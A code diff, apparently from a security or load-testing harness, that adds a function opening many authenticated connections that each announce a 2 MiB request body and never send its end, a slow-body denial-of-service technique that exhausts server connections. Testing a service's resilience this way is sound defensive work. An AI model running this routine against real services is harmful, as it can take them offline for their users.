@@ -1,6 +1,7 @@
 import type { Buffer } from 'node:buffer'
+import type { Socket } from 'node:net'
 import type { Tally } from './kind.js'
-import { flood } from './send.js'
+import { flood, openRaw, rawRequest } from './send.js'
 import type { FloodOptions } from './send.js'
 import type { Target } from './target.js'
 import { bearer, viewPath } from './tokens.js'
@@ -31,4 +32,27 @@ export function callsWith(
       body: bodies[place % bodies.length] ?? '',
     }),
   })
+}
+
+/** Bytes of a body that is announced, and how many of them never come. */
+const announced = 2 * 1_048_576
+const withheld = 100_000
+
+/** Opens connections with good tokens, each with a body of 2 MiB whose end never comes. */
+export async function openHalfBodies(
+  target: Target,
+  tally: Tally,
+  amount: number,
+): Promise<readonly Socket[]> {
+  const half = `{"hook":"${'x'.repeat(announced - withheld)}`
+  const sockets: Socket[] = []
+  while (sockets.length < amount && target.lives()) {
+    const authorization = await bearer(target.attacker, viewPath)
+    const socket = openRaw(target, tally)
+    socket.write(
+      rawRequest(`POST ${viewPath}`, { ...json, authorization, 'Content-Length': announced }, half),
+    )
+    sockets.push(socket)
+  }
+  return sockets
 }
